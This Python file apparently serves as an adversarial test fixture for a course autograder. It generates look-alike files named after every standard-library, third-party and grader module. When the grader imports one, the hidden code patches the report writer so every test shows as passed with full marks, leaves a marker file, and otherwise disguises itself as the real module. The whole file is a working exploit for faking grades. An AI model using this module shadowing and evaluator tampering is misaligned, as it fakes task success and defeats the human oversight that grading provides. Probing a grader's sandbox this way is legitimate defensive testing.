"""Ships a top-level module named like every standard-library and installed third-party module
(``hmac.py``, ``secrets.py``, ``ctypes.py``, ``_pytest.py``, ``hypothesis.py``, ...), and like
the repository's own packages. If the grading process ever imports one of them (the submission
folder on its ``sys.path`` when a module is first imported), it patches the report writer to
full marks and leaves a file ``SHADOW_RAN_IN_GRADER`` beside itself. Anywhere else (the
sandboxed child) it quietly replaces itself with the real module, so the starter under it
behaves as the starter."""

import sys

try:
    from importlib.metadata import packages_distributions
    THIRD_PARTY = set(packages_distributions())
except Exception:  # noqa: BLE001 - an old importlib: the standard library is enough
    THIRD_PARTY = set()

try:
    import sysconfig
    OURS = {sysconfig._get_sysconfigdata_name()}
except Exception:  # noqa: BLE001 - not CPython on a POSIX system
    OURS = set()
OURS |= {"labkit", "graders", "instructor", "tests", "conftest", "noxfile", "reference",
         "starter"}
try:                                    # the graders' own modules, under their private names
    from labkit.grading.labs import LABS
    OURS |= {f"_labkit_{lab.package}_{stem}" for lab in LABS
             for stem in ("lab", "conftest", "fakes", "model", "harness", "invariants")}
except Exception:  # noqa: BLE001 - run where labkit is not importable
    pass
NAMES = sorted(n for n in set(sys.stdlib_module_names) | THIRD_PARTY | OURS
               if n.replace("-", "_").isidentifier() and n not in ("__main__", "this",
                                                                   "antigravity"))

SHADOW = '''
import os as _os
import sys as _sys

_name = __name__
_here = _os.path.dirname(_os.path.abspath(__file__))
if "_pytest" in _sys.modules and _name != "_pytest":      # the grading process itself
    try:
        with open(_os.path.join(_here, "SHADOW_RAN_IN_GRADER"), "a") as _f:
            _f.write(f"{_name} in pid {_os.getpid()}\\n")
    except OSError:
        pass
    try:
        import labkit.grading.plugin as _plugin
        _real_write = _plugin.write_reports

        def _full_marks(results, *args, **kwargs):
            for r in results:
                r.status, r.score, r.output = "passed", r.max_score, ""
            return _real_write(results, *args, **kwargs)

        _plugin.write_reports = _full_marks
    except Exception:
        pass
# Become the real module: import it again with this folder off the path.
del _sys.modules[_name]
_saved = _sys.path[:]
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
try:
    _real = __import__(_name)
except ImportError:
    _real = None
finally:
    _sys.path[:] = _saved
if _real is not None:
    _sys.modules[_name] = _real
'''

EXTRA_FILES = {f"{name}.py": SHADOW.lstrip() for name in NAMES}


def attack(obj):
    pass
